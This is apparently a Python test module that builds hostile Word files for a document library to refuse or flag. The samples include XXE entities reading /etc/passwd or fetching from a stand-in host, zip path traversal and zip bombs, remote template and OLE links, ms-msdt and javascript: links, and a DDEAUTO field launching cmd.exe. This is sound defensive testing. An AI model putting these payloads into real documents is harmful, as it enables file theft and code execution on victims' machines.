"""Files that an attacker, a broken mail gateway or a wrong click could send: each function makes one, named for it.

`REFUSED` maps names to (maker, error class), `REPORTED` to (maker, code of the notice), `HARMLESS` to makers: unusual
files that must open. Run `python -m tests.hostile DIR` to write them all, to try them on other programs.
"""

import io
import random
import re
import struct
import sys
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterable, Mapping
from pathlib import Path

from cxify.errors import CxifyError, DocumentTooLarge, EncryptedDocument, NotWordDocument, UnsafePackage
from tests.word.build import END, NAMESPACES, OFFICE, PACKAGE, W, begin, doc, p, r, simple_field, text_box

Maker = Callable[[], bytes]
REFUSED: dict[str, tuple[Maker, type[CxifyError]]] = {}
REPORTED: dict[str, tuple[Maker, str]] = {}
HARMLESS: dict[str, Maker] = {}

MAIN, TYPES, RELS, MAIN_RELS = (
    "word/document.xml",
    "[Content_Types].xml",
    "_rels/.rels",
    "word/_rels/document.xml.rels",
)
TEXT = p("The team answers letters.")


def refused(error: type[CxifyError]) -> Callable[[Maker], Maker]:
    """Publish a file that must be refused with this error."""

    def publish(make: Maker) -> Maker:
        REFUSED[make.__name__] = (make, error)
        return make

    return publish


def reported(notice: str) -> Callable[[Maker], Maker]:
    """Publish a file that must open with a notice."""

    def publish(make: Maker) -> Maker:
        REPORTED[make.__name__] = (make, notice)
        return make

    return publish


def harmless(make: Maker) -> Maker:
    """Publish an unusual file that must open."""
    HARMLESS[make.__name__] = make
    return make


# --- taking a good file apart -----------------------------------------------------------------------------------------


def parts(data: bytes = b"") -> dict[str, bytes]:
    """Return the members of a file, of a good one unless told otherwise."""
    with zipfile.ZipFile(io.BytesIO(data or doc(TEXT))) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def zipped(members: Mapping[str, bytes] | Iterable[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Return the zip of the members, which may repeat a name."""
    items = members.items() if isinstance(members, Mapping) else members
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, content in items:
            info = zipfile.ZipInfo("x")
            info.filename, info.compress_type = name, method
            with warnings.catch_warnings(action="ignore"):
                archive.writestr(info, content)
    return buffer.getvalue()


def with_parts(**changed: bytes) -> bytes:
    """Return a good file with members exchanged or added; `MAIN=` and the others name the usual ones."""
    usual = {"MAIN": MAIN, "TYPES": TYPES, "RELS": RELS, "MAIN_RELS": MAIN_RELS}
    return zipped(parts() | {usual.get(name, name): content for name, content in changed.items()})


def with_link(kind: str, target: str, mode: str = ' TargetMode="External"') -> bytes:
    """Return a file whose document has one more relationship."""
    link = f'<Relationship Id="rX" Type="{OFFICE}/relationships/{kind}" Target="{target}"{mode}/></Relationships>'
    return with_parts(MAIN_RELS=parts()[MAIN_RELS].replace(b"</Relationships>", link.encode()))


def with_text(*blocks: str) -> bytes:
    """Return a file with these blocks, which the builder does not check."""
    return doc(TEXT, *blocks)


def patched(data: bytes, old: bytes, new: bytes, count: int = 1) -> bytes:
    """Return data with bytes exchanged; they must be there."""
    if old not in data:
        raise ValueError("nothing to exchange")
    return data.replace(old, new, count)


def entry_at(data: bytes, name: str) -> int:
    """Return where the central directory's entry of a member begins."""
    return data.rindex(b"PK\x01\x02", 0, data.rindex(name.encode()))


def in_entry(data: bytes, name: str, offset: int, form: str, value: int) -> bytes:
    """Return data with one number of a directory entry exchanged."""
    changed = bytearray(data)
    struct.pack_into(form, changed, entry_at(data, name) + offset, value)
    return bytes(changed)


def in_local(data: bytes, name: str, offset: int, form: str, value: int) -> bytes:
    """Return data with one number of a local header exchanged."""
    changed = bytearray(data)
    (start,) = struct.unpack_from("<L", data, entry_at(data, name) + 42)
    struct.pack_into(form, changed, start + offset, value)
    return bytes(changed)


def in_end(data: bytes, offset: int, form: str, value: int) -> bytes:
    """Return data with one number of the end record exchanged."""
    changed = bytearray(data)
    struct.pack_into(form, changed, data.rindex(b"PK\x05\x06") + offset, value)
    return bytes(changed)


# --- not a Word document ----------------------------------------------------------------------------------------------


@refused(NotWordDocument)
def empty_file() -> bytes:
    return b""


@refused(NotWordDocument)
def plain_text() -> bytes:
    return b"Job description: cleaner"


@refused(NotWordDocument)
def rich_text() -> bytes:
    return b"{\\rtf1\\ansi Job description}"


@refused(NotWordDocument)
def pdf() -> bytes:
    return b"%PDF-1.7\n1 0 obj"


@refused(NotWordDocument)
def web_page() -> bytes:
    return b"\xef\xbb\xbf\n<!DOCTYPE html><html><body>Job</body></html>"


@refused(NotWordDocument)
def web_archive() -> bytes:
    return b"MIME-Version: 1.0\r\nContent-Type: multipart/related"


@refused(NotWordDocument)
def single_xml_file() -> bytes:
    return b'<?xml version="1.0"?><pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage"/>'


@refused(NotWordDocument)
def old_doc() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + "WordDocument".encode("utf-16-le") + bytes(512)


@refused(NotWordDocument)
def other_compound_file() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1024)


@refused(EncryptedDocument)
def password_protected() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + "EncryptedPackage".encode("utf-16-le") + bytes(512)


@refused(NotWordDocument)
def excel_workbook() -> bytes:
    return zipped({TYPES: b"<Types/>", RELS: b"<Relationships/>", "xl/workbook.xml": b"<workbook/>"})


@refused(NotWordDocument)
def powerpoint() -> bytes:
    return zipped({TYPES: b"<Types/>", RELS: b"<Relationships/>", "ppt/presentation.xml": b"<presentation/>"})


@refused(NotWordDocument)
def open_document() -> bytes:
    return zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>"})


@refused(NotWordDocument)
def some_zip() -> bytes:
    return zipped({"holiday.txt": b"photos"})


@refused(NotWordDocument)
def zip_without_members() -> bytes:
    return zipped({})


# --- the zip ----------------------------------------------------------------------------------------------------------


@refused(NotWordDocument)
def first_half() -> bytes:
    return (whole := with_parts())[: len(whole) // 2]


@refused(NotWordDocument)
def last_bytes_lost() -> bytes:
    return with_parts()[:-10]


@refused(NotWordDocument)
def directory_overwritten() -> bytes:
    return patched(with_parts(), b"PK\x01\x02", bytes(4))


@refused(NotWordDocument)
def middle_overwritten() -> bytes:
    data = with_parts()
    return data[:200] + bytes(200) + data[400:]


@refused(NotWordDocument)
def program_in_front() -> bytes:
    return b"MZ" + bytes(510) + with_parts()


@refused(UnsafePackage)
def other_zip_in_front() -> bytes:
    return zipped({"evil.txt": b"x"}) + with_parts()


@refused(NotWordDocument)
def something_behind() -> bytes:
    return with_parts() + b"<script>alert(1)</script>"


@refused(UnsafePackage)
def two_ends() -> bytes:
    data = with_parts()
    end = data[data.rindex(b"PK\x05\x06") :]
    return in_end(data, 20, "<H", len(end)) + end


@refused(UnsafePackage)
def bytes_between_members() -> bytes:
    data = with_parts()
    start = data.index(b"PK\x01\x02")
    return in_end(data[:start] + b"hidden" + data[start:], 16, "<L", start + 6)


@refused(UnsafePackage)
def name_twice() -> bytes:
    return zipped([*parts().items(), (MAIN, b"<other/>")])


@refused(UnsafePackage)
def name_twice_in_other_case() -> bytes:
    return with_parts(**{"WORD/Document.XML": b"<other/>"})


@refused(UnsafePackage)
def name_climbs_out() -> bytes:
    return with_parts(**{"../../etc/cron.d/job": b"x"})


@refused(UnsafePackage)
def name_climbs_out_encoded() -> bytes:
    return with_parts(**{"word/%2e%2e/%2E%2E/job.xml": b"<x/>"})


@refused(UnsafePackage)
def name_is_absolute() -> bytes:
    return with_parts(**{"/etc/passwd": b"x"})


@refused(UnsafePackage)
def name_with_drive() -> bytes:
    return with_parts(**{"C:/Windows/x.dll": b"x"})


@refused(UnsafePackage)
def name_with_backslash() -> bytes:
    return with_parts(**{"word\\..\\x.xml": b"<x/>"})


@refused(UnsafePackage)
def name_with_control_character() -> bytes:
    return with_parts(**{"word/a\nb.xml": b"<x/>"})


@refused(UnsafePackage)
def name_differs_in_local_header() -> bytes:
    return patched(with_parts(), b"word/styles.xml", b"word/stylez.xml")


@refused(UnsafePackage)
def second_name_in_extra_field() -> bytes:
    extra = struct.pack("<HHBL", 0x7075, 5 + 8, 1, zlib.crc32(b"word/x.xml")) + b"evil.xml"
    return _with_extra(extra)


@refused(UnsafePackage)
def method_differs_in_local_header() -> bytes:
    return in_local(with_parts(), MAIN, 8, "<H", 0)


@refused(UnsafePackage)
def size_differs_in_local_header() -> bytes:
    return in_local(with_parts(), MAIN, 22, "<L", 5)


@refused(UnsafePackage)
def two_names_for_the_same_bytes() -> bytes:
    data = with_parts()
    entry = data[entry_at(data, MAIN) :][: 46 + len(MAIN)]
    twin = entry.replace(b"document", b"dokument")
    position = entry_at(data, MAIN)
    grown = data[:position] + twin + data[position:]
    grown = in_end(grown, 12, "<L", struct.unpack_from("<L", data, data.rindex(b"PK\x05\x06") + 12)[0] + len(twin))
    count = len(parts(data)) + 1
    return in_end(in_end(grown, 8, "<H", count), 10, "<H", count)


@refused(NotWordDocument)
def wrong_checksum() -> bytes:
    data = with_parts()
    return in_local(in_entry(data, MAIN, 16, "<L", 1), MAIN, 14, "<L", 1)


@refused(NotWordDocument)
def wrong_checksum_of_a_picture() -> bytes:
    data = with_parts(**{"word/media/image1.png": b"\x89PNG" * 100})
    return in_local(in_entry(data, "word/media/image1.png", 16, "<L", 1), "word/media/image1.png", 14, "<L", 1)


@refused(UnsafePackage)
def larger_than_it_says() -> bytes:
    return _sized(with_parts(**{"word/media/a.bin": bytes(100 * 2**20)}), "word/media/a.bin", 1000)


@refused(NotWordDocument)
def smaller_than_it_says() -> bytes:
    return _sized(with_parts(), MAIN, 9_000_000)


def _sized(data: bytes, name: str, size: int) -> bytes:
    return in_local(in_entry(data, name, 24, "<L", size), name, 22, "<L", size)


@refused(NotWordDocument)
def bytes_behind_compressed_content() -> bytes:
    packer = zlib.compressobj(wbits=-15)
    content = b"picture"
    packed = packer.compress(content) + packer.flush() + b"hidden"
    data = zipped(parts() | {"word/media/a.bin": packed}, zipfile.ZIP_STORED)
    for change in (in_local, in_entry):
        at = 8 if change is in_local else 10
        data = change(data, "word/media/a.bin", at, "<H", 8)
        data = change(data, "word/media/a.bin", at + 6, "<L", zlib.crc32(content))
        data = change(data, "word/media/a.bin", at + 14, "<L", len(content))
    return data


@refused(EncryptedDocument)
def encrypted_member() -> bytes:
    return in_local(in_entry(with_parts(), MAIN, 8, "<H", 1), MAIN, 6, "<H", 1)


@refused(UnsafePackage)
def unusual_compression() -> bytes:
    return zipped(parts(), zipfile.ZIP_LZMA)


@refused(DocumentTooLarge)
def zip64_directory() -> bytes:
    return in_end(with_parts(), 16, "<L", 0xFFFFFFFF)


@refused(DocumentTooLarge)
def zip64_sizes() -> bytes:
    return in_entry(with_parts(), MAIN, 24, "<L", 0xFFFFFFFF)


@refused(UnsafePackage)
def on_many_disks() -> bytes:
    return in_end(with_parts(), 4, "<H", 1)


@refused(UnsafePackage)
def wrong_number_of_members() -> bytes:
    return in_end(in_end(with_parts(), 8, "<H", 2), 10, "<H", 2)


@refused(NotWordDocument)
def directory_lengths_lie() -> bytes:
    return in_entry(with_parts(), MAIN, 28, "<H", 0xFFF0)


@refused(DocumentTooLarge)
def six_thousand_parts() -> bytes:
    return zipped(parts() | {f"word/media/{number}.png": b"" for number in range(6000)})


@refused(UnsafePackage)
def bomb_in_the_document() -> bytes:
    return with_parts(MAIN=parts()[MAIN].replace(b"<w:body>", b"<w:body>" + b" " * (100 * 2**20)))


@refused(UnsafePackage)
def bomb_in_a_picture() -> bytes:
    return with_parts(**{"word/media/image1.png": bytes(100 * 2**20)})


@refused(UnsafePackage)
def bomb_of_many_parts() -> bytes:
    block = bytes(20 * 2**20)
    return zipped(parts() | {f"word/media/{number}.bin": block for number in range(5)})


@refused(DocumentTooLarge)
def too_much_text() -> bytes:
    noise = random.Random(1).randbytes(33 * 2**20).hex().encode()  # noqa: S311 - text that compresses little
    return zipped(parts() | {"customXml/item9.xml": b"<x>" + noise + b"</x>"}, zipfile.ZIP_STORED)


# --- the XML ----------------------------------------------------------------------------------------------------------

DOCUMENT = f"<w:document {NAMESPACES}><w:body>{p('Text')}</w:body></w:document>"
LAUGHS = (
    '<!DOCTYPE w:document [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>'
)
OUTSIDE = '<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'


@refused(UnsafePackage)
def entities_that_multiply() -> bytes:
    return with_parts(MAIN=(LAUGHS + DOCUMENT.replace("Text", "&d;")).encode())


@refused(UnsafePackage)
def entity_from_outside() -> bytes:
    return with_parts(MAIN=(OUTSIDE + DOCUMENT.replace("Text", "&x;")).encode())


@refused(UnsafePackage)
def parameter_entity() -> bytes:
    return with_parts(MAIN=('<!DOCTYPE x [<!ENTITY % p SYSTEM "http://198.51.100.1/x"> %p;]>' + DOCUMENT).encode())


@refused(UnsafePackage)
def dtd_in_utf16() -> bytes:
    return with_parts(MAIN=('<?xml version="1.0" encoding="UTF-16"?>' + OUTSIDE + DOCUMENT).encode("utf-16"))


@refused(UnsafePackage)
def dtd_in_utf16_without_mark() -> bytes:
    return with_parts(MAIN=('<?xml version="1.0" encoding="UTF-16BE"?>' + OUTSIDE + DOCUMENT).encode("utf-16-be"))


@refused(UnsafePackage)
def dtd_in_utf16_behind_a_misleading_character() -> bytes:
    return with_parts(MAIN=('<?xml version="1.0"?><?x \u3e3f ?>' + OUTSIDE + DOCUMENT).encode("utf-16"))


@refused(UnsafePackage)
def dtd_in_utf7() -> bytes:
    hidden = OUTSIDE.replace("<", "+ADw-").replace("!", "+ACE-")
    return with_parts(MAIN=f'<?xml version="1.0" encoding="UTF-7"?>{hidden}{DOCUMENT}'.encode())


@refused(NotWordDocument)
def dtd_in_ebcdic() -> bytes:
    return with_parts(MAIN=f'<?xml version="1.0" encoding="cp037"?>{OUTSIDE}{DOCUMENT}'.encode("cp037"))


@refused(UnsafePackage)
def dtd_in_utf32() -> bytes:
    return with_parts(MAIN=(OUTSIDE + DOCUMENT).encode("utf-32"))


@refused(UnsafePackage)
def dtd_behind_comments() -> bytes:
    return with_parts(MAIN=f"<!-- <w:document> --><?x y?>\n{OUTSIDE}{DOCUMENT}".encode())


@refused(UnsafePackage)
def dtd_in_relationships() -> bytes:
    return with_parts(RELS=OUTSIDE.encode() + parts()[RELS].partition(b"?>")[2])


@refused(UnsafePackage)
def dtd_in_content_types() -> bytes:
    return with_parts(TYPES=OUTSIDE.encode() + parts()[TYPES].partition(b"?>")[2])


@refused(UnsafePackage)
def dtd_in_a_part_that_nobody_reads() -> bytes:
    return with_parts(**{"customXml/item9.xml": OUTSIDE.encode() + b"<x>&x;</x>"})


@refused(UnsafePackage)
def dtd_under_another_name() -> bytes:
    types = parts()[TYPES].replace(b"</Types>", b'<Default Extension="dat" ContentType="application/xml"/></Types>')
    return with_parts(TYPES=types, **{"word/theme.dat": OUTSIDE.encode() + b"<x>&x;</x>"})


@refused(UnsafePackage)
def nested_too_deep() -> bytes:
    return with_text("<w:customXml>" * 5000 + TEXT + "</w:customXml>" * 5000)


@refused(UnsafePackage)
def tables_nested_too_deep() -> bytes:
    return with_text("<w:tbl><w:tr><w:tc>" * 400 + TEXT + "</w:tc></w:tr></w:tbl>" * 400)


@refused(UnsafePackage)
def deep_and_large() -> bytes:
    filler = "".join(f"<w:p><w:r><w:t>{number * 7919:040d}</w:t></w:r></w:p>" for number in range(180_000))
    return with_text(filler, "<w:customXml>" * 5000 + TEXT + "</w:customXml>" * 5000)


@refused(NotWordDocument)
def document_breaks_off() -> bytes:
    return with_parts(MAIN=parts()[MAIN][:-40])


@refused(NotWordDocument)
def document_with_null_character() -> bytes:
    return with_parts(MAIN=DOCUMENT.replace("Text", "Te&#0;xt").encode())


@refused(NotWordDocument)
def unknown_prefix() -> bytes:
    return with_parts(MAIN=DOCUMENT.replace("<w:r>", "<q:r>").replace("</w:r>", "</q:r>").encode()[:-5])


@refused(NotWordDocument)
def styles_unreadable() -> bytes:
    return with_parts(**{"word/styles.xml": b"<w:styles"})


@refused(NotWordDocument)
def relationships_unreadable() -> bytes:
    return with_parts(MAIN_RELS=b"<Relationships>")


@refused(NotWordDocument)
def content_types_unreadable() -> bytes:
    return with_parts(TYPES=b"<Types><Default")


@refused(DocumentTooLarge)
def millions_of_elements() -> bytes:
    return with_text("<w:p/>" * 4_000_000)


@refused(DocumentTooLarge)
def a_million_paragraphs() -> bytes:
    return with_text("<w:p/>" * 1_000_000)


@refused(UnsafePackage)
def fields_that_never_end() -> bytes:
    opened = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    return with_text(p(opened * 20_000), "<w:p/>" * 50_000)


# --- the package ------------------------------------------------------------------------------------------------------


@refused(NotWordDocument)
def without_content_types() -> bytes:
    return zipped({name: content for name, content in parts().items() if name != TYPES})


@refused(NotWordDocument)
def without_relationships() -> bytes:
    return zipped({name: content for name, content in parts().items() if name != RELS})


@refused(NotWordDocument)
def without_document() -> bytes:
    return zipped({name: content for name, content in parts().items() if name != MAIN})


@refused(NotWordDocument)
def document_has_the_type_of_a_workbook() -> bytes:
    return with_parts(TYPES=parts()[TYPES].replace(b"wordprocessingml.document", b"spreadsheetml.sheet"))


@refused(NotWordDocument)
def document_is_a_picture() -> bytes:
    return with_parts(MAIN=b"\x89PNG\r\n\x1a\n")


@refused(NotWordDocument)
def document_is_other_xml() -> bytes:
    return with_parts(MAIN=b"<html><body>Job</body></html>")


@refused(NotWordDocument)
def document_without_body() -> bytes:
    return with_parts(MAIN=f"<w:document {NAMESPACES}/>".encode())


@refused(NotWordDocument)
def document_lies_outside() -> bytes:
    inside = b'Target="word/document.xml"'
    return with_parts(RELS=patched(parts()[RELS], inside, b'Target="http://198.51.100.1/x" TargetMode="External"'))


@refused(UnsafePackage)
def script_link() -> bytes:
    return with_link("hyperlink", "javascript:alert(1)")


@refused(UnsafePackage)
def script_link_in_disguise() -> bytes:
    return with_link("hyperlink", " JAVA&#9;SCRIPT:alert(1)")


@refused(UnsafePackage)
def data_link() -> bytes:
    return with_link("hyperlink", "data:text/html;base64,PHNjcmlwdD4=")


@refused(UnsafePackage)
def diagnostic_tool_link() -> bytes:
    return with_link("hyperlink", "ms-msdt:/id PCWDiagnostic")


@refused(UnsafePackage)
def remote_template() -> bytes:
    return with_link("attachedTemplate", "https://198.51.100.1/t.dotm")


@refused(UnsafePackage)
def remote_template_on_a_share() -> bytes:
    return with_link("attachedTemplate", "file:///\\\\198.51.100.1\\share\\t.dotm")


@refused(UnsafePackage)
def remote_template_without_mode() -> bytes:
    return with_link("attachedTemplate", "//198.51.100.1/share/t.dotm", mode="")


@refused(UnsafePackage)
def remote_object() -> bytes:
    return with_link("oleObject", "https://198.51.100.1/x.html!")


@refused(UnsafePackage)
def remote_object_with_mode_in_lower_case() -> bytes:
    return with_link("oleObject", "https://198.51.100.1/x.html!", mode=' TargetMode="external"')


def with_chart(chart: str, target: str) -> bytes:
    """Return a file with a chart that links to a workbook outside."""
    related = [("rX", f"{OFFICE}/relationships/chart", "charts/chart1.xml")]
    link = f'<Relationship Id="r1" Type="{OFFICE}/relationships/oleObject" Target="{target}" TargetMode="External"/>'
    rels = f'<Relationships xmlns="{PACKAGE}/relationships">{link}</Relationships>'
    extra = {"word/charts/chart1.xml": chart.encode(), "word/charts/_rels/chart1.xml.rels": rels.encode()}
    return doc(TEXT, extra=extra, related=related)


CHART = (
    '<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" xmlns:r="{0}/relationships">'
    '<c:chart/><c:externalData r:id="r1">{1}</c:externalData></c:chartSpace>'
)
CHART_OF_2016 = (
    '<cx:chartSpace xmlns:cx="http://schemas.microsoft.com/office/drawing/2014/chartex" xmlns:r="{0}/relationships">'
    '<cx:chartData><cx:externalData r:id="r1" cx:autoUpdate="{1}"/></cx:chartData></cx:chartSpace>'
)
WORKBOOK = "file:///\\\\server\\hr\\figures.xlsx"


@refused(UnsafePackage)
def chart_that_updates_itself() -> bytes:
    return with_chart(CHART.format(OFFICE, '<c:autoUpdate val="1"/>'), WORKBOOK)


@refused(UnsafePackage)
def chart_of_2016_that_updates_itself() -> bytes:
    return with_chart(CHART_OF_2016.format(OFFICE, "1"), WORKBOOK)


@refused(UnsafePackage)
def chart_that_starts_a_program() -> bytes:
    return with_chart(CHART.format(OFFICE, '<c:autoUpdate val="0"/>'), "ms-msdt:/id PCWDiagnostic")


@refused(UnsafePackage)
def object_behind_a_part_that_is_no_chart() -> bytes:
    return with_chart(f'<w:hdr xmlns:w="{W}"/>', WORKBOOK)


@refused(UnsafePackage)
def remote_subdocument() -> bytes:
    return with_link("subDocument", "file:///C:/other.docx")


@refused(UnsafePackage)
def remote_chunk() -> bytes:
    return with_link("aFChunk", "https://198.51.100.1/x.docx")


@refused(UnsafePackage)
def remote_frame() -> bytes:
    return with_link("frame", "https://198.51.100.1/x.docx")


# --- opened, and reported ---------------------------------------------------------------------------------------------


@reported("macros")
def macros() -> bytes:
    related = [("rX", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin")]
    return doc(TEXT, kind="docm", extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0VBA"}, related=related)


@reported("macros")
def macros_under_another_name() -> bytes:
    related = [("rX", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "media/picture.bin")]
    return doc(TEXT, extra={"word/media/picture.bin": b"\xd0\xcf\x11\xe0VBA"}, related=related)


@reported("embedded-object")
def embedded_object() -> bytes:
    related = [("rX", f"{OFFICE}/relationships/oleObject", "embeddings/oleObject1.bin")]
    return doc(TEXT, extra={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}, related=related)


@reported("embedded-object")
def active_x() -> bytes:
    related = [("rX", f"{OFFICE}/relationships/control", "activeX/activeX1.xml")]
    return doc(TEXT, extra={"word/activeX/activeX1.xml": b"<ax/>"}, related=related)


@reported("external-link")
def link_to_a_file() -> bytes:
    return with_link("hyperlink", "file:///C:/HR/policy.docx")


@reported("external-link")
def link_to_a_share() -> bytes:
    return with_link("hyperlink", "\\\\server\\hr\\policy.docx")


@reported("external-link")
def linked_picture() -> bytes:
    return with_link("image", "https://198.51.100.1/pixel.png")


@reported("external-link")
def linked_picture_on_a_share() -> bytes:
    return with_link("image", "file://198.51.100.1/share/pixel.png")


@reported("external-link")
def mail_merge_list() -> bytes:
    return with_link("mailMergeSource", "file:///C:/HR/people.xlsx")


@reported("external-link")
def chart_copied_from_a_workbook() -> bytes:
    return with_chart(CHART.format(OFFICE, '<c:autoUpdate val="0"/>'), WORKBOOK)


@reported("external-link")
def chart_copied_from_a_workbook_that_was_never_saved() -> bytes:
    return with_chart(CHART.format(OFFICE, ""), "Book1")


@reported("external-link")
def chart_of_2016_copied_from_a_workbook() -> bytes:
    return with_chart(CHART_OF_2016.format(OFFICE, "0"), "https://198.51.100.1/figures.xlsx")


@reported("active-field")
def field_that_starts_a_program() -> bytes:
    return doc(p("Call ", begin('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'), "x", END))


@reported("active-field")
def field_code_in_pieces() -> bytes:
    pieces = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in (" D", "DE", "AUTO c cmd"))
    start, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return doc(p(f"{start}{pieces}{end}", "x"))


@reported("active-field")
def field_that_includes_a_picture() -> bytes:
    return doc(p(simple_field('INCLUDEPICTURE "https://198.51.100.1/pixel.png"', "x")))


@reported("active-field")
def field_that_includes_text() -> bytes:
    return doc(p(begin('INCLUDETEXT "C:\\\\secret.txt"'), "x", END))


@reported("active-field")
def active_field_in_a_header() -> bytes:
    return doc(TEXT, headers={"default": p(begin("DDE excel sheet r1c1"), "x", END)})


@reported("alt-chunk")
def embedded_web_page() -> bytes:
    related = [("rX", f"{OFFICE}/relationships/aFChunk", "chunk.html")]
    chunk = {"word/chunk.html": b"<!DOCTYPE html><html><script>alert(1)</script></html>"}
    return doc(TEXT, '<w:altChunk r:id="rX"/>', extra=chunk, related=related)


# --- unusual, and fine ------------------------------------------------------------------------------------------------


@harmless
def template_on_the_own_disk() -> bytes:
    return with_link("attachedTemplate", "file:///C:/Users/Ann/Templates/Normal.dotm")


@harmless
def template_on_the_own_disk_with_a_slash_too_many() -> bytes:
    return with_link("attachedTemplate", "file:////C:\\Users\\Ann\\Templates\\Single%20spaced%20(blank).dotx")


@harmless
def links_to_the_web_mail_and_phone() -> bytes:
    data = with_link("hyperlink", "mailto:ann@example.org?subject=Job%20advert")
    data = zipped(parts(data) | {MAIN_RELS: parts(data)[MAIN_RELS].replace(b'Id="rX"', b'Id="rY"')})
    rels = (
        f'<Relationship Id="rZ" Type="{OFFICE}/relationships/hyperlink" Target="tel:+49301234" TargetMode="External"/>'
    )
    return zipped(parts(data) | {MAIN_RELS: parts(data)[MAIN_RELS].replace(b"</Rel", rels.encode() + b"</Rel")})


@harmless
def relationship_to_nothing() -> bytes:
    return with_link("header", "header9.xml", mode="")


@harmless
def relationship_in_other_case() -> bytes:
    return with_parts(MAIN_RELS=parts()[MAIN_RELS].replace(b'"styles.xml"', b'"Styles.XML"'))


@harmless
def document_quotes_a_dtd() -> bytes:
    return with_parts(**{"customXml/item9.xml": b"<x><![CDATA[<!DOCTYPE html><html/>]]></x>"})


@harmless
def document_in_utf16() -> bytes:
    return with_parts(MAIN=DOCUMENT.encode("utf-16"))


@harmless
def says_utf16_and_is_utf8() -> bytes:
    return with_parts(**{"customXml/item9.xml": b'<?xml version="1.0" encoding="utf-16"?><x/>'})


@harmless
def stored_members() -> bytes:
    return zipped(parts(), zipfile.ZIP_STORED)


@harmless
def directories_as_members() -> bytes:
    return zipped({"word/": b"", "word/media/": b"", **parts()})


@harmless
def comment_of_the_zip() -> bytes:
    data = with_parts()
    return in_end(data, 20, "<H", 5) + b"hello"


class _Stream(io.BytesIO):
    """A target that cannot go back, so that zipfile writes data descriptors."""

    def seekable(self) -> bool:
        return False

    def seek(self, *_: object) -> int:
        raise io.UnsupportedOperation

    def tell(self) -> int:
        raise io.UnsupportedOperation


@harmless
def data_descriptors() -> bytes:
    return _streamed(zip64=False)


@harmless
def data_descriptors_of_a_zip64_stream() -> bytes:
    return _streamed(zip64=True)


def _streamed(*, zip64: bool) -> bytes:
    stream = _Stream()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts().items():
            with archive.open(name, "w", force_zip64=zip64) as member:
                member.write(content)
    return stream.getvalue()


@harmless
def extra_fields() -> bytes:
    """Word leaves room to grow in an extra field; Windows writes its times into another."""
    return _with_extra(struct.pack("<HHHH", 0xA220, 8, 0xA028, 4) + bytes(4) + struct.pack("<HHQ", 0x000A, 8, 0))


def _with_extra(extra: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts().items():
            info = zipfile.ZipInfo(name)
            info.extra, info.compress_type = extra, zipfile.ZIP_DEFLATED
            archive.writestr(info, content)
    return buffer.getvalue()


@harmless
def nested_as_deep_as_allowed() -> bytes:
    return with_text("<w:tbl><w:tr><w:tc>" * 80 + TEXT + "</w:tc></w:tr></w:tbl>" * 80)


@harmless
def controls_nested_as_deep_as_allowed() -> bytes:
    return with_text("<w:sdt><w:sdtContent>" * 120 + TEXT + "</w:sdtContent></w:sdt>" * 120)


@harmless
def wrappers_nested_as_deep_as_allowed() -> bytes:
    return with_text(p("<w:smartTag>" * 245 + r("deep") + "</w:smartTag>" * 245))


@harmless
def text_boxes_in_text_boxes() -> bytes:
    inner = TEXT
    for _ in range(12):
        inner = p(text_box(inner, fallback=["<w:p/>"]))
    return with_text(inner)


@harmless
def hundred_thousand_attributes() -> bytes:
    attributes = " ".join(f'a{number}="1"' for number in range(100_000))
    return with_text(f"<w:p><w:pPr {attributes}/></w:p>")


@harmless
def style_that_is_its_own_parent() -> bytes:
    styles = parts()["word/styles.xml"].replace(
        b"</w:styles>",
        b'<w:style w:type="paragraph" w:styleId="A"><w:basedOn w:val="B"/></w:style>'
        b'<w:style w:type="paragraph" w:styleId="B"><w:basedOn w:val="A"/></w:style></w:styles>',
    )
    return with_parts(
        MAIN=DOCUMENT.replace("<w:p>", '<w:p><w:pPr><w:pStyle w:val="A"/></w:pPr>').encode(),
        **{"word/styles.xml": styles},
    )


@harmless
def long_chain_of_styles() -> bytes:
    chain = "".join(
        f'<w:style w:type="paragraph" w:styleId="S{n}"><w:basedOn w:val="S{n + 1}"/></w:style>' for n in range(5000)
    )
    styles = parts()["word/styles.xml"].replace(b"</w:styles>", chain.encode() + b"</w:styles>")
    return with_parts(
        MAIN=DOCUMENT.replace("<w:p>", '<w:p><w:pPr><w:pStyle w:val="S0"/></w:pPr>').encode(),
        **{"word/styles.xml": styles},
    )


@harmless
def odd_numbers() -> bytes:
    cell = '<w:tc><w:tcPr><w:gridSpan w:val="99999999999999999999"/><w:vMerge w:val="x"/></w:tcPr><w:p/></w:tc>'
    level = '<w:p><w:pPr><w:outlineLvl w:val="many"/><w:numPr><w:ilvl w:val="-5"/></w:numPr></w:pPr></w:p>'
    return with_text(f"<w:tbl><w:tr>{cell}</w:tr></w:tbl>", level, p('<w:r><w:sym w:char="FFFFFF"/></w:r>'))


def main(folder: str) -> None:
    """Write all files into a folder, named by what is wrong with them."""
